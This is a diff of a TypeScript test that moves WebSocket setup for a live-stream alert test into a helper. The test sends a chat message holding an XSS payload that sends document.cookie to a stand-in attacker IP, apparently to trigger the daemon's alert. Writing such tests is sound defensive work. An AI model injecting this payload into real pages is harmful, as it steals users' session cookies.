@@ -1,7 +1,6 @@
 import { strict as assert } from 'node:assert';
-import WebSocket from 'ws';
-import { STREAM_BEARER_PREFIX, STREAM_SUBPROTOCOL, type StreamMessage } from '../../../daemon/src/protocol/stream';
-import { startTestDaemon, type TestDaemon } from '../../helpers/test-daemon';
+import type { StreamMessage } from '../../../daemon/src/protocol/stream';
+import { openStream, startTestDaemon, type TestDaemon } from '../../helpers/test-daemon';
 
 describe('live stream against the real daemon', () => {
   let d: TestDaemon;
@@ -13,13 +12,8 @@ describe('live stream against the real daemon', () => {
   });
 
   it('a ws client receives the alert for a message before the HTTP response of the next one', async () => {
-    const ws = new WebSocket(d.url.replace('http', 'ws') + '/ws', [STREAM_SUBPROTOCOL, `${STREAM_BEARER_PREFIX}${d.token}`]);
     const received: { msg: StreamMessage; at: number }[] = [];
-    ws.on('message', (data: Buffer) => received.push({ msg: JSON.parse(data.toString()) as StreamMessage, at: performance.now() }));
-    await new Promise<void>((resolve, reject) => {
-      ws.once('open', () => resolve());
-      ws.once('error', reject);
-    });
+    const ws = await openStream(d, (msg) => received.push({ msg, at: performance.now() }));
     const first = await d.api('POST', '/api/chat', { message: '<script>document.location="https://203.0.113.5/?c="+document.cookie</script>', session_id: 'ws-order' });
     assert.equal(first.status, 200);
     const secondResponseAt = await d.api('POST', '/api/chat', { message: 'What is the capital of Portugal?' }).then(() => performance.now());
